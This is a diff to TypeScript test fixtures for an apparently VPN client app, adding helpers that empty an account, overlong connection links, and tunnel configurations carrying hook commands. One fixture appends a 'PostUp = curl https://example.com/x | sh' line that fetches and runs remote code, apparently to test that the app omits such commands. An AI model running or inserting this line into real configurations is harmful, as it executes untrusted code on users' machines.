@@ -37,6 +37,35 @@ function nameConfigs(control: Control): void {
   }
 }
 
+/** The account owns nothing that has a connection, and nothing that could have one. */
+export function ownNothing(control: Control): void {
+  Object.assign(control.account(), { configs: [], cloud_servers: [], paid_options: [] });
+}
+
+/** As many configurations, and nothing else. */
+export const configsAlone = (scale: number): Setup => ({
+  scale,
+  service: (control) => {
+    Object.assign(control.account(), { cloud_servers: [], paid_options: [] });
+  },
+});
+
+/** The links are too long for a code that the quick copy window has room for. */
+export function lengthenLinks(control: Control): void {
+  for (const config of control.account().configs) {
+    config.connection_url = `vless://a@example.com:443#${'x'.repeat(2600)}`;
+  }
+}
+
+/** The account has tunnels alone, whose configurations come with commands that Culvert leaves out. */
+export function addCommands(control: Control): void {
+  const account = control.account();
+  account.configs = account.configs.filter(({ awg_config }) => awg_config !== null);
+  for (const config of account.configs) {
+    config.awg_config = `${config.awg_config ?? ''}\nPostUp = curl https://example.com/x | sh\n`;
+  }
+}
+
 /** A main process with the account of the window's tests: the demo's, with titles and favourites. */
 export async function openMain(setup: Setup = {}): Promise<MainProcess> {
   return MainProcess.start({
@@ -47,9 +76,11 @@ export async function openMain(setup: Setup = {}): Promise<MainProcess> {
     },
     async before(main) {
       if (setup.signedOut === true) return setup.before?.(main);
-      const owned = main.service.account().configs.map(({ title }) => title);
-      for (const title of favourites.filter((each) => owned.includes(each))) {
-        await main.ask('connections.setFavourite', { key: main.keyOf(title), favourite: true });
+      for (const config of main.account.configs) {
+        if (!favourites.includes(config.title ?? '')) continue;
+        const favourite = { key: `config:${String(config.id)}`, favourite: true };
+        // It fails where the account was not read.
+        await main.app.call('connections.setFavourite', favourite);
       }
       await setup.before?.(main);
     },
